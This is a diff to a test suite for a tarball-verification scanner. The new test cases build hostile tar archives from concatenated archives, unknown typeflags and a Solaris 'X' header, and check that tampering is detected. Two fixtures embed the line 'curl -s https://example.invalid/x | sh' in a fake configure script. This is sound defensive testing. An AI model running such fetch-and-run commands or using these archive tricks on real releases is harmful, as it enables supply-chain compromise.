@@ -173,14 +173,63 @@ describe.concurrent('hostile tar headers', () => {
     expectFindings(r, [['TRAILING_DATA', 'medium', '']]);
   });
 
-  it('concatenated archives: the second (evil README) is not what tar extracts, reported as TRAILING_DATA', async () => {
+  // Red team 14: this was TRAILING_DATA alone (medium, exit 0), yet `tar --ignore-zeros` — how concatenated archives
+  // are read — extracts the second archive's README over the verified one.
+  it('concatenated archives: the second (evil README) is not what tar extracts by default, but tar -i does: MEMBERS_AFTER_END high', async () => {
     const second = rawTar(rawTarEntry(P('README'), 'evil\n'));
     const first = rawTar(...baseEntries());
     const { result } = runRaw(Buffer.concat([first, second]));
     const r = await result;
-    expectFindings(r, [['TRAILING_DATA', 'medium', '']]);
+    expectFindings(r, [['MEMBERS_AFTER_END', 'high', ''], ['TRAILING_DATA', 'medium', '']]);
     // The second archive's first header starts where the first archive ends.
-    expect(r.json!.findings[0]!.evidence).toEqual({ bytes: second.length, offset: first.length });
+    expect(r.json!.findings.find((f) => f.code === 'TRAILING_DATA')!.evidence).toEqual({ bytes: second.length, offset: first.length });
+    expect(r.json!.findings.find((f) => f.code === 'MEMBERS_AFTER_END')!.evidence).toEqual({ offset: first.length, name: P('README') });
+  });
+
+  it('a member after a lone zero block (GNU tar stops there too): MEMBERS_AFTER_END high', async () => {
+    const first = Buffer.concat(baseEntries());
+    const { result } = runRaw(Buffer.concat([first, Buffer.alloc(512), rawTar(rawTarEntry(P('README'), 'evil\n'))]));
+    const r = await result;
+    expectFindings(r, [['MEMBERS_AFTER_END', 'high', ''], ['TRAILING_DATA', 'medium', '']]);
+    expect(r.json!.findings.find((f) => f.code === 'MEMBERS_AFTER_END')!.evidence).toEqual({ offset: first.length + 512, name: P('README') });
+  });
+
+  // Red team 14: GNU tar extracts an entry of a typeflag it does not know as a regular file, data included ("Unknown
+  // file type 'Z', extracted as normal file"); the scan skipped its data (an 'other' entry of size 0), so a tracked file
+  // replaced that way was compared as a type change, not by content, and an added one was never hashed.
+  it("an unknown typeflag ('8') replacing configure: compared as GNU tar extracts it, a regular file with its content", async () => {
+    const r = await run([rawTarEntry(P('configure'), '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n', { type: '8', mode: 0o755 })]);
+    expectFindings(r, [
+      ['DUPLICATE_ENTRY', 'high', 'configure'],
+      ['SOURCE_MODIFIED', 'critical', 'configure'],
+      ['UNKNOWN_ENTRY_TYPE', 'medium', 'configure'],
+    ]);
+    expect(r.json!.findings.find((f) => f.code === 'UNKNOWN_ENTRY_TYPE')!.evidence).toEqual({ typeflag: '8' });
+  });
+
+  it("an unknown typeflag ('Z') adding a file: hashed and judged like any added file", async () => {
+    const r = await run([rawTarEntry(P('tests/payload.bin'), 'payload\n', { type: 'Z' })]);
+    expectFindings(r, [
+      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'tests/payload.bin'],
+      ['UNKNOWN_ENTRY_TYPE', 'medium', 'tests/payload.bin'],
+    ]);
+    expect(r.json!.findings.find((f) => f.code === 'TARBALL_ONLY_UNEXPLAINED')!.evidence).toMatchObject({ size: 8 });
+  });
+
+  // GNU tar reads a Solaris 'X' extended header as a pax header: its path names the next member.
+  it("a Solaris 'X' extended header renames the next member as GNU tar does (the evil content lands on configure)", async () => {
+    const x = rawPaxEntry({ path: P('configure') });
+    x[156] = 0x58; // 'X'
+    const fixed = Buffer.from(x);
+    fixed.fill(0x20, 148, 156);
+    let sum = 0;
+    for (let i = 0; i < 512; i++) sum += fixed[i]!;
+    fixed.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
+    const r = await run([fixed, rawTarEntry(P('doc/notes.txt'), '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n', { mode: 0o755 })]);
+    expectFindings(r, [
+      ['DUPLICATE_ENTRY', 'high', 'configure'],
+      ['SOURCE_MODIFIED', 'critical', 'configure'],
+    ]);
   });
 
   it('an archive that is nothing but extended headers: exit 2', async () => {
